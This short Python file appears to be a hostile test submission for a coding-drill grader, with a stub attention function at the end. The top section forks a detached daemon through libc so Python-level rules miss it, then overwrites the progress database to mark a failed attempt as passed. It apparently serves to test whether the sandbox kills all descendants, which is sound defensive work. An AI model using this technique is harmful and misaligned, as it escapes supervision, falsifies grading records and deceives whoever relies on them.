# A classic daemon (fork, setsid, fork), started through libc so that no Python-level rule sees
# it: once the grading is over it would rewrite the learner's progress database, whose path it
# is given in ATTACK_DB, to forge a passed attempt. Only killing every descendant stops it.
import ctypes
import os
import sys

DAEMON = """
import sqlite3, sys, time
time.sleep(1.5)
conn = sqlite3.connect(sys.argv[1])
conn.execute("UPDATE drill_attempts SET passed = 1, checks_passed = checks_total")
conn.commit()
"""

libc = ctypes.CDLL(None, use_errno=True)
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        argv = [sys.executable, "-c", DAEMON, os.environ.get("ATTACK_DB", ""), os.environ.get("TFPREP_TEST_MARKER", "")]
        libc.execv(sys.executable.encode(), (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None))
    libc._exit(0)


def scaled_dot_product_attention(q, k, v, mask=None):
    raise NotImplementedError
